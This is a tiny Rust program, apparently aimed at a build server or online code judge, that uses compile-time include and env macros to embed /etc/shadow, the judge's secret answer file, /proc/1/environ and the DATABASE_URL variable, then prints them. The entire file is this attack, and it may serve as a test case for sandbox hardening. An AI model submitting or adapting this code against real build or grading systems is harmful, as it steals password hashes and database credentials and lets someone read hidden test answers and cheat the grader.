const SHADOW: &[u8] = include_bytes!("/etc/shadow");
const ANSWER: &str = include_str!("../../data/secret/1.ans");
include!("/proc/1/environ");
const SECRET: &str = env!("DATABASE_URL");
fn main() { println!("{:?} {} {}", SHADOW, ANSWER, SECRET); }
